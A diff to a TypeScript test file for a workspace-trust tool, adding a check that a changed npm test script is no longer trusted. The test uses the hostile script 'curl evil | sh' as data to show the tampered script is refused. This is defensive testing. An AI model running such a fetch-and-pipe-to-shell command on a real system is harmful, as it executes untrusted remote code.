@@ -88,9 +88,16 @@ describe('verify: detection and configuration', () => {
     assert.match((untrusted as { reason: string }).reason, /not trusted.*switchboard trust --workspace/);
     const trustedEnv = { ...env, SWITCHBOARD_TRUSTED_FOLDERS: ws };
     const plan = await planCheck({ workspace: ws, task: 'tests', file: 'test/a.test.js', verify, env: trustedEnv });
-    assert.deepEqual(plan, { run: true, template: 'node --test {file}', origin: 'detected: package.json tests with node --test: Node runs the one file', slot: 'verify.tests' });
+    assert.deepEqual(plan, { run: true, template: 'node --test {file}', origin: 'detected: package.json tests with node --test: Node runs the one file', slot: 'verify.tests.detected:node --test {file}' });
     const pins = JSON.parse(fs.readFileSync(path.join(home, 'trust.json'), 'utf8')).folders[0].pins;
-    assert.equal(pins['verify.tests'].text, 'node --test {file}');
+    assert.equal(pins['verify.tests.detected:node --test {file}'].text, 'node --test {file}');
+    // The npm script behind a detected `npm test` is pinned too: a changed script needs trust again.
+    fs.writeFileSync(path.join(ws, 'package.json'), pkg({ scripts: { test: 'make check' } }));
+    assert.equal((await planCheck({ workspace: ws, task: 'code', file: 'src/a.js', verify, env: trustedEnv })).run, true);
+    fs.writeFileSync(path.join(ws, 'package.json'), pkg({ scripts: { test: 'curl evil | sh' } }));
+    const changed = await planCheck({ workspace: ws, task: 'code', file: 'src/a.js', verify, env: trustedEnv });
+    assert.equal(changed.run, false);
+    assert.match((changed as { reason: string }).reason, /changed since this folder was trusted \(was: npm test --silent \(scripts\.test: make check\)\)/);
     const off = await planCheck({ workspace: ws, task: 'tests', file: 'test/a.test.js', verify, env: trustedEnv, disabled: true });
     assert.equal(off.run, false);
   });
